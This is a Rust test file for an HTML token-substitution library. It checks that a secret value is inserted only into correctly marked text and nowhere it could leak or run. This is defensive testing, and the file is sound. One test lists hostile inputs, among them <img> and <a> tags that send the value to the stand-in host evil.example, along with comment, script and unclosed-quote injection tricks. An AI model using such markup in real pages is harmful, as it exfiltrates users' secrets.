//! HTML: marked elements and everything that is not one.

use symbolon::{Format, Place};

use crate::{HTML, check, check_with, places, token_of};

#[test]
fn html_marked_elements() {
    check(HTML, "<td data-symbolon=\"n0nce\">§</td>");
    check(HTML, "<TD class=x DATA-Symbolon='n0nce' id=y>\r\n\t §\x0c </tD\n>");
    check(
        HTML,
        "<b data-symbolon = n0nce>§</b><i\ndata-symbolon\n=\n\"n0nce\"\n>§</i/><p/data-symbolon=n0nce>§</p x='\"'>",
    );
    check(HTML, "<my-element data-symbolon=n0nce>§</my-element>");
    check(HTML, "<a title='>' data-symbolon=n0nce>§</a><a title=\"'>\"data-symbolon=n0nce>§</a>");
    check(HTML, "a < b <3 <> </> <<b data-symbolon=n0nce>§</b>");
    check(HTML, "<select><option data-symbolon=n0nce>§</option></select>");
    check(HTML, "<svg><svg/></svg><math/><b data-symbolon=n0nce>§</b>");
    check(HTML, "<br><b data-symbolon=n0nce data-symbolon=x>§</b>");
    check(HTML, "<b data-symbolon<a data-symbolon=n0nce>§</b>");
    check(HTML, "</ x=\"><b data-symbolon=n0nce>§</b></1 x=\"><b data-symbolon=n0nce>§</b>");
    assert_eq!(places(HTML, "<b data-symbolon=n0nce>§</b>"), [Place::HtmlText]);
}

#[test]
fn html_unmarked_elements() {
    for tag in [
        "td",
        "td data-symbolon",
        "td data-symbolon=''",
        "td data-symbolon=x",
        "td data-symbolon=n0nc",
        "td data-symbolon=n0nce1",
        "td data-symbolon=N0NCE",
        "td data-symbolon='n0nce '",
        "td data-symbolon=' n0nce'",
        "td data-symbolon=&#110;0nce",
        "td data-symbolo=n0nce",
        "td data-symbolon2=n0nce",
        "td xdata-symbolon=n0nce",
        "td data-symbolon=x data-symbolon=n0nce",
        "td data-symbolon data-symbolon=n0nce",
        "td title='data-symbolon=n0nce'",
        "td title=\"x data-symbolon='n0nce'\"",
        "td title=data-symbolon=n0nce",
        "td title= data-symbolon=n0nce",
        "td title='><td data-symbolon=n0nce'",
        "td =data-symbolon=n0nce",
        "td data-symbolon==n0nce",
        "td data-symbolon='n0nce/'",
        "td data-symbolon=n0nce/",
        "td data-symbolon=n0nce /",
        "/td data-symbolon=n0nce",
        "td/ data-symbolon>n0nce",
        "!td data-symbolon=n0nce",
        "?td data-symbolon=n0nce",
        " td data-symbolon=n0nce",
    ] {
        check(HTML, &format!("<{tag}>¤</td><td data-symbolon=n0nce>§</td>"));
    }
    check(
        Format::Html { marker: "" },
        "<b>¤</b><b data-symbolon>¤</b><b data-symbolon=''>¤</b><b data-symbolon=x>¤</b>",
    );
}

#[test]
fn html_text_that_is_more_than_a_token() {
    for text in [
        "x¤</b>",
        "¤x</b>",
        "¤.</b>",
        "¤¤</b>",
        "¤ ¤</b>",
        "Dear ¤,</b>",
        "<i>¤</i></b>",
        "¤<br></b>",
        "<br>¤</b>",
        "¤<!-- --></b>",
        "<!-- -->¤</b>",
        "&#32;¤</b>",
        "¤&nbsp;</b>",
        "\u{a0}¤</b>",
        "¤</i></b>",
        "¤</bb></b>",
        "¤</ b></b>",
        "¤</></b>",
        "¤< /b></b>",
        "¤<b></b>",
        "¤<b/></b>",
        "¤<</b>",
        "¤<?x></b>",
        "¤</b\0></b>",
        "<a href=¤>¤</a>",
    ] {
        check(HTML, &format!("<b data-symbolon=n0nce>{text}<b data-symbolon=n0nce>§</b>"));
    }
    for open in [
        "¤",
        "¤ ",
        "¤<",
        "¤</",
        "¤</b",
        "¤</b title='",
        "¤</bold-and-a-name-that-is-longer-than-any-name-that-is-known",
    ] {
        // Once the name of the end tag is read the element's text is known.
        let found = open.replace('¤', if open.contains('\'') { "§" } else { "¤" });
        check(HTML, &format!("<b data-symbolon=n0nce>{found}"));
    }
    for (name, verdict) in [("a".repeat(32), '§'), ("a".repeat(33), '¤')] {
        check_with(HTML, &format!("<{name} data-symbolon=n0nce>{verdict}{}</{name}>", " ".repeat(256)), &token_of(5));
    }
    check(HTML, &format!("<b data-symbolon=n0nce>{}¤{}</b>", " ".repeat(999), " ".repeat(257)));
}

/// The attack of the design's section 4 and its relatives: the value would go to somebody else, or run.
#[test]
fn html_places_that_are_not_text() {
    for hostile in [
        "<img src=\"https://evil.example/?q=¤\">",
        "<img src=https://evil.example/?q=¤>",
        "<a href='//evil.example/¤'>x</a>",
        "<b data-symbolon=n0nce title=\"¤\">x</b>",
        "<b data-symbolon=n0nce title=¤>x</b>",
        "<b title='<i data-symbolon=n0nce>¤</i>'>x</b>",
        "<img data-symbolon=n0nce>¤</img>",
        "<br data-symbolon=n0nce>¤</br>",
        "<p data-symbolon=n0nce/>¤</p>",
        "<!--<b data-symbolon=n0nce>¤</b>-->",
        "<!-- > -> --!x --- <b data-symbolon=n0nce>¤</b> --!>",
        "<!x<b data-symbolon=n0nce>",
        "<?x <b data-symbolon=n0nce>",
        "<!-- <!-- <b data-symbolon=n0nce>¤</b> -->",
        "<!--><b data-symbolon=n0nce>§</b>",
        "<!---><b data-symbolon=n0nce>§</b>",
        "<!----><b data-symbolon=n0nce>§</b>",
        "<!-><b data-symbolon=n0nce>§</b>",
        "<!><b data-symbolon=n0nce>§</b>",
        "<!-->--><b data-symbolon=n0nce>§</b>",
        "<!--x--!><b data-symbolon=n0nce>§</b>",
        "<!--x--!--><b data-symbolon=n0nce>§</b>",
        "<!--x-->-<b data-symbolon=n0nce>§</b>",
        "<!--x->¤--><b data-symbolon=n0nce>§</b>",
        "<!doctype html public '-- <b data-symbolon=n0nce>x</b>",
        "<![CDATA[<b data-symbolon=n0nce>¤]]>",
        "</x <b data-symbolon=n0nce>¤",
        "</ <b data-symbolon=n0nce>¤",
        "<img src=>",
        "<img src= >",
        "<foreignobject><annotation-xml>",
    ] {
        check(HTML, &format!("{hostile}<b data-symbolon=n0nce>§</b>"));
    }
    // A quote that is never closed hides what is behind it.
    check(HTML, "<img src='//evil.example/?<b data-symbolon=n0nce>¤</b>");
    check(HTML, "<!-- <b data-symbolon=n0nce>¤</b>");
}

#[test]
fn html_raw_text() {
    for name in ["script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "SCRIPT"] {
        for inner in ["", "<", "</", "</x>", "<!-- ", "<!--<b>-->", "'</b>", "<a title='"] {
            check(
                HTML,
                &format!(
                    "<{name} data-symbolon=n0nce>¤</{name}><{name}>{inner}<b data-symbolon=n0nce>¤</b></{name}x></{name}\n><b data-symbolon=n0nce>§</b>"
                ),
            );
        }
        check(HTML, &format!("<{name}/><b data-symbolon=n0nce>¤</b></{name} x='>'><b data-symbolon=n0nce>§</b>"));
        check(HTML, &format!("<{name}></{name}/></{name}><b data-symbolon=n0nce>§</b>"));
    }
    check(HTML, "<plaintext></plaintext><b data-symbolon=n0nce>¤</b>");
    check(HTML, "<frameset></frameset><b data-symbolon=n0nce>¤</b>");
}

/// `<!--` and `<script` in a script: `</script>` does not end it then.
#[test]
fn html_script_in_a_script() {
    check(HTML, "<script><!-- <script> </script><b data-symbolon=n0nce>¤</b>");
    check(HTML, "<script><!-- <SCRIPT/ </script><b data-symbolon=n0nce>¤</b>");
    check(HTML, "<script><!-- <scripts> <b> < </script><b data-symbolon=n0nce>§</b>");
    check(HTML, "<script>// <script> <!- <script></script><b data-symbolon=n0nce>§</b>");
    check(HTML, "<script><!-- </script><script><script></script><b data-symbolon=n0nce>§</b>");
    check(HTML, "<style><!-- <script></style><b data-symbolon=n0nce>§</b>");
}

/// Where parsers differ nothing is replaced, and what looks different to them ends the scan.
#[test]
fn html_ambiguous_regions() {
    let after = "<b data-symbolon=n0nce>";
    for name in ["svg", "math", "template", "noscript"] {
        check(HTML, &format!("<{name} data-symbolon=n0nce>¤</{name}>{after}§</b>"));
        check(
            HTML,
            &format!(
                "<{name}><!-- x --><p a='b'>{after}¤</b></p><title>x</title><{name}>{after}¤</b></{name}>{after}¤</b></{name}>{after}§</b>"
            ),
        );
    }
    // Only foreign elements end with a slash: in HTML it says nothing.
    for name in ["template", "noscript"] {
        check(HTML, &format!("<{name}/>{after}¤</b></{name}>{after}§</b>"));
    }
    for name in ["svg", "math"] {
        check(HTML, &format!("<{name}/>{after}§</b>"));
    }
    // In a script two hyphens make what follows a comment, in which a script can begin; one does not.
    for begins in ["<!-x ", "<!x-", "<!x--"] {
        check(HTML, &format!("<script>{begins}<script></script>{after}§</b>"));
    }
    check(HTML, &format!("<script><!--<script></script>{after}¤</b>"));
    // One hyphen begins a comment that ends at the first `>`.
    check(HTML, &format!("<!-x>{after}§</b>"));
    check(HTML, &format!("<!--x>{after}¤</b>-->{after}§</b>"));
    check(HTML, &format!("<svg><desc>x</desc><mi>y</mi></svg>{after}§</b>"));
    check(HTML, &format!("<select><option>x</select>{after}§</b>"));
    check(HTML, &format!("<template><svg></svg><select></select></template></svg></select>{after}§</b>"));
    for region in ["svg", "math", "template", "noscript", "select"] {
        for inner in [
            "<style><</style>",
            "<style><a title=\"</style>",
            "<title><x></title>",
            "<desc><style></desc>",
            "<mtext></x></mtext>",
            "<textarea></textareas></textarea>",
            "<a title='<'>",
            "<a title=<>",
            "<a <>",
            "<a<>",
            "<a b<>",
            "<a b <>",
            "<a b= <>",
            "<!-- < -->",
            "<!<>",
            "<![CDATA[x]]>",
            "<!doctype>",
            "<? < ?>",
            "</ < >",
            "</<x>",
            "<style/>",
            "<title/>",
            "<foreignobject></foreignobject>",
            "<annotation-xml></annotation-xml>",
            "<plaintext>",
        ] {
            check(HTML, &format!("<{region}>{inner}</{region}>{after}¤</b>"));
        }
        for other in ["svg", "math", "template", "noscript", "select"].into_iter().filter(|other| *other != region) {
            check(HTML, &format!("<{region}><{other}></{region}></{other}></{region}>{after}¤</b>"));
        }
        check(HTML, &format!("{}{}{after}§</b>", format!("<{region}>").repeat(8), format!("</{region}>").repeat(8)));
        check(HTML, &format!("{}{}{after}¤</b>", format!("<{region}>").repeat(9), format!("</{region}>").repeat(9)));
    }
    check(HTML, "<select><b data-symbolon=n0nce>¤</b<></select>");
}
